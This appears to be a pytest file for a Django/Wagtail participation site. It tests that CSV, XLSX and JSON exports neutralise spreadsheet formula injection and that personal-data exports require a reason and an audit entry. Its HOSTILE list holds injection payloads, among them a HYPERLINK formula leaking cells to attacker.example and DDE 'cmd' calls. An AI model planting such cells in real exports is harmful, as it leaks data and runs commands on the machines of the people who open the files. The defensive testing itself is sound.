"""Exports that cannot attack whoever opens them, and personal data that never leaves without a reason and a trace.

Every route that answers a file is found from the resolver and the routable pages (`tests.core.export_routes`), not
listed by hand: each must be classified below, so a new export fails these tests until someone says what it
holds. Hostile cells planted in everything an export writes (contributions, pseudonyms, questionnaire answers and
questions, page titles, commune names, redirects) come back shown, never run.
"""

import csv
import io
import json
import unicodedata

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import ModelLogEntry, PageLogEntry

from participation.demo import add_questionnaire
from participation.models import QuestionnairePage, contributor_key
from participation.services.personal_data import rights_url
from tests.core.export_routes import export_routes
from tests.participation.conftest import add_contribution, make_process, path_of

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A3&B3,"voir le plan")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1",
    " =1",
    "＝1+1",
    "﹦1+1",
    "＋1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u22121+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
HOSTILE_EMAIL = "victime@example.org"
REASON = "Demande d'accès reçue par courrier le 3 mars."

# What each route that answers a file holds. "personal": a reason is asked and the export is logged;
# "anonymised": nothing that says who; "own data": the contributor's own, through their signed link;
# "staff work": Wagtail's reports and listings of the admin's own work (pages, redirects, communes).
EXPORT_ROUTES = {
    "participation_export": "anonymised",
    "ProcessPage:open_data": "anonymised",
    "participation_export_personal": "personal",
    "participation_data_rights": "personal",
    "wagtailforms:list_submissions": "personal",
    "wagtailforms:list_submissions_results": "personal",
    "participation:my_data_download": "own data",
    "wagtailadmin_reports:aging_pages": "staff work",
    "wagtailadmin_reports:aging_pages_results": "staff work",
    "wagtailadmin_reports:locked_pages": "staff work",
    "wagtailadmin_reports:locked_pages_results": "staff work",
    "wagtailadmin_reports:site_history": "staff work",
    "wagtailadmin_reports:site_history_results": "staff work",
    "wagtailadmin_reports:workflow": "staff work",
    "wagtailadmin_reports:workflow_results": "staff work",
    "wagtailadmin_reports:workflow_tasks": "staff work",
    "wagtailadmin_reports:workflow_tasks_results": "staff work",
    "wagtailredirects:index": "staff work",
    "wagtailredirects:index_results": "staff work",
    "wagtailsnippets_communes_commune:list": "staff work",
    "wagtailsnippets_communes_commune:list_results": "staff work",
}
# Workflows are off (WAGTAIL_WORKFLOW_ENABLED = False): their reports have no row to plant a hostile cell in.
NOTHING_TO_PLANT = ("wagtailadmin_reports:workflow",)


def test_every_route_that_answers_a_file_is_classified():
    assert export_routes().keys() == EXPORT_ROUTES.keys(), (
        "a route answers a file: say in EXPORT_ROUTES what it holds (personal data asks a reason and is logged)"
    )


# --- Reading what came back ---------------------------------------------------------------------------


def would_run(value):
    """What a spreadsheet would read as a formula: checked here independently of the code under test."""
    if not isinstance(value, str) or not value:
        return False
    if value[0] in "\t\r\n":
        return True
    rest = value.lstrip("".join(c for c in value if c.isspace() or unicodedata.category(c)[0] in "CZ"))
    return bool(rest) and unicodedata.normalize("NFKC", rest[0])[0] in "=+-@\u2212" and not rest[1:].isdigit()


def content_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def cells_of(response):
    """Every cell of a CSV, XLSX or JSON export, as text; for XLSX, no cell may be typed as a formula."""
    disposition = response.get("Content-Disposition", "")
    assert "attachment" in disposition, (response.status_code, disposition)
    content = content_of(response)
    if ".xlsx" in disposition:
        workbook = load_workbook(io.BytesIO(content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        return [cell.value for cell in cells if cell.value is not None]
    if ".json" in disposition:
        found = []

        def walk(data):
            if isinstance(data, dict):
                found.extend(data.keys())
                data = list(data.values())
            if isinstance(data, list):
                for item in data:
                    walk(item)
            else:
                found.append(data)

        walk(json.loads(content))
        return found
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def assert_harmless(response, *, planted=True):
    cells = cells_of(response)
    assert [cell for cell in cells if would_run(cell)] == []
    if planted:  # the test could fail: hostile cells are there, shown as text
        shown = {cell.lstrip("'") for cell in cells if isinstance(cell, str) and cell.startswith("'")}
        assert any(hostile in cell for hostile in HOSTILE for cell in shown), cells[:40]


# --- The world: hostile cells in everything an export writes -------------------------------------------


@pytest.fixture
def hostile(process, commune_space, make_space, staff_user):
    for number, text in enumerate(HOSTILE):
        add_contribution(process, text, pseudonym=HOSTILE[-1 - number][:40], email=HOSTILE_EMAIL)
    closed = make_process(commune_space, "Consultation close", starts=-60, ends=-1)
    for text in HOSTILE:
        add_contribution(closed, text, email=HOSTILE_EMAIL)
    add_questionnaire(
        process,
        {
            "title": "Parc du Charmois : quels usages demain ?",
            "fields": [
                {"label": "Avis", "field_type": "multiline", "required": True},
                {"label": "=1+1 question", "field_type": "singleline", "required": False},
                {"label": "Votre nom", "field_type": "singleline", "required": False, "is_personal": True},
            ],
        },
    )
    questionnaire = QuestionnairePage.objects.child_of(process).get()
    for text in HOSTILE:
        FormSubmission.objects.create(
            page=questionnaire, form_data={"avis": text, "11_question": text, "votre_nom": text}
        )
    # What Wagtail's reports and listings write: a page title, a locked page, a commune's name, a redirect.
    target = make_process(commune_space, HOSTILE[0], starts=-7, ends=30)
    target.locked, target.locked_by = True, staff_user
    target.save(update_fields=["locked", "locked_by"])
    make_space(HOSTILE[1], slug="hostile", insee_code="54999")
    Redirect.objects.create(old_path="/ancienne", redirect_link=HOSTILE[2])
    return {"process": process, "closed": closed, "questionnaire": questionnaire}


@pytest.fixture
def superuser(db):
    return get_user_model().objects.create_superuser("racine", "racine@example.org", "a-long-test-password")


def file_requests(name, world, client):
    """The requests that make route `name` answer its files, with a reason where one is asked."""
    process, questionnaire = world["process"], world["questionnaire"]
    if name == "participation_export":
        url = reverse(name, args=[process.pk, "csv"])
        return [
            client.get(url),
            client.get(url, {"questionnaire": questionnaire.pk}),
            client.get(reverse(name, args=[process.pk, "xlsx"])),
        ]
    if name == "participation_export_personal":
        url = reverse(name, args=[process.pk])
        return [client.post(url, {"file_format": fmt, "reason": REASON}) for fmt in ("csv", "xlsx")]
    if name == "participation_data_rights":
        return [client.post(reverse(name), {"email": HOSTILE_EMAIL, "action": "download", "reason": REASON})]
    if name == "participation:my_data_download":
        return [client.get(path_of(rights_url(HOSTILE_EMAIL)) + "telecharger/")]
    if name == "ProcessPage:open_data":
        return [client.get(world["closed"].url + f"donnees/{fmt}/") for fmt in ("csv", "json")]
    if name.startswith("wagtailforms:"):
        url = reverse(name, args=[questionnaire.pk])
        return [client.post(f"{url}?export={fmt}", {"reason": REASON}) for fmt in ("csv", "xlsx")]
    url = reverse(name)
    return [client.get(url, {"export": fmt}) for fmt in ("csv", "xlsx")]


@pytest.mark.parametrize("name", sorted(EXPORT_ROUTES))
def test_no_export_writes_a_cell_that_a_spreadsheet_would_run(client, hostile, superuser, name):
    client.force_login(superuser)

    for response in file_requests(name, hostile, client):
        assert response.status_code == 200, (name, response.status_code)
        assert_harmless(response, planted=not name.startswith(NOTHING_TO_PLANT))


def test_the_xlsx_export_of_a_questionnaire_whose_title_has_a_colon_is_a_workbook(client, hostile, moderators):
    client.force_login(moderators[0])

    response = client.get(reverse("participation_export", args=[hostile["process"].pk, "xlsx"]))

    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(content_of(response)))
    assert workbook.sheetnames == ["Contributions", "Parc du Charmois - quels usages"]


# --- Personal data: a reason, and an audit entry that names what left and about whom -------------------


PERSONAL = sorted(name for name, holds in EXPORT_ROUTES.items() if holds == "personal")


def without_reason(name, world, client):
    """Every way to ask route `name` for its file without giving a reason."""
    process, questionnaire = world["process"], world["questionnaire"]
    if name == "participation_export_personal":
        url = reverse(name, args=[process.pk])
        return [client.get(url), client.post(url, {"file_format": "csv", "reason": ""})]
    if name == "participation_data_rights":
        url = reverse(name)
        return [client.post(url, {"email": HOSTILE_EMAIL, "action": "download"})]
    url = reverse(name, args=[questionnaire.pk])
    return [client.get(url, {"export": fmt}) for fmt in ("csv", "xlsx")] + [
        client.post(f"{url}?export=csv", {"reason": "court"})
    ]


def audit_entries():
    return list(PageLogEntry.objects.filter(action__startswith="participation.")) + list(
        ModelLogEntry.objects.filter(action__startswith="participation.")
    )


@pytest.mark.parametrize("name", PERSONAL)
def test_personal_data_leaves_only_with_a_reason_and_an_audit_entry_naming_whom(client, hostile, staff_user, name):
    client.force_login(staff_user)

    for response in without_reason(name, hostile, client):
        assert response.status_code == 200
        assert "attachment" not in response.get("Content-Disposition", "")
        assert response["Content-Type"].startswith("text/html")
    assert audit_entries() == []

    responses = file_requests(name, hostile, client)

    assert all("attachment" in response["Content-Disposition"] for response in responses)
    entries = audit_entries()
    assert len(entries) == len(responses)
    for entry in entries:
        assert entry.user == staff_user and entry.data["reason"] == REASON
        # About whom: the contributions or answers that left, or the contributor's keyed hash, never an address.
        subjects = {key: entry.data.get(key) for key in ("contribution_ids", "answer_ids", "contributor_key")}
        assert any(subjects.values()), entry.data
        assert HOSTILE_EMAIL not in json.dumps(entry.data)
    if name == "participation_data_rights":
        assert entries[0].data["contributor_key"] == contributor_key(HOSTILE_EMAIL)
        assert len(entries[0].data["contribution_ids"]) == 2 * len(HOSTILE)
    elif name.startswith("wagtailforms:"):
        assert entries[0].data["answers"] == len(HOSTILE) and entries[0].data["personal_questions"] == ["Votre nom"]
        assert entries[0].page_id == hostile["questionnaire"].pk
    else:
        exported = set(entries[0].data["contribution_ids"])
        assert len(exported) == len(HOSTILE) and entries[0].data["answer_ids"]


def test_an_editor_without_the_personal_data_permission_gets_no_raw_answers(client, hostile, essey_editor):
    client.force_login(essey_editor)
    url = reverse("wagtailforms:list_submissions", args=[hostile["questionnaire"].pk])

    response = client.post(f"{url}?export=csv", {"reason": REASON})

    assert response.status_code in (302, 403)
    assert "attachment" not in response.get("Content-Disposition", "")
    assert audit_entries() == []
